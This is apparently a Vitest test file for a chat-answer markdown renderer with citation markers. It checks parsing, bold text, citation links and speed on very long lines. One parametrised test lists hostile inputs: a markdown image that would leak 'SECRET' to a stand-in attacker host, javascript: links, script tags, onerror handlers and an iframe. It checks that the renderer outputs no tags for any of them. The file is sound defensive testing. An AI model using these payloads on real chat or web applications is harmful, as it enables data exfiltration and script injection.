import { renderToStaticMarkup } from 'react-dom/server'
import { createElement } from 'react'
import { expect, test } from 'vitest'
import { AnswerText } from './AnswerText.tsx'
import { blocksOf } from './markdown.ts'

const marked = [{ number: 1, page: 7, href: '/chat-pdf?doc=d&page=7#q' }]
const html = (content: string) => renderToStaticMarkup(createElement(AnswerText, { content, marked }))

test('an answer has paragraphs, lists, quotes and markers', () => {
  const text =
    'It **is** so [1].\nAnd on.\n\n- one\n- two\n  more\n\n1. first\n\n> quoted [1]\n\n```\na < b\n```\n# Head'
  expect(blocksOf(text).map(({ kind }) => kind)).toEqual([
    'paragraph',
    'list',
    'list',
    'quote',
    'code',
    'heading',
  ])
  expect(html('It **is** so [1].')).toContain('<strong>is</strong>')
  expect(html('It is so [1].')).toContain('href="/chat-pdf?doc=d&amp;page=7#q"')
})

test.each([
  '![x](https://evil.invalid/a.png?q=SECRET)',
  '[click](javascript:alert(1))',
  '<img src=x onerror=alert(1)><script>alert(1)</script>',
  '[a]: https://evil.invalid "t"\n[a]',
  '<https://evil.invalid>',
  '**[b](https://evil.invalid)**',
  '`<iframe src="https://evil.invalid">`',
])('%s loads nothing and leads nowhere', (content) => {
  expect(html(content)).not.toMatch(/<(?:img|a|script|iframe|link|style)\b/)
})

test('a number in brackets that no citation stands behind is text', () => {
  expect(html('Nothing [7] here.')).toContain('Nothing [7] here.')
})

test('a very long line is taken apart without delay', () => {
  expect(blocksOf(`${'*a '.repeat(60_000)}${'['.repeat(60_000)}`)).toHaveLength(1)
})
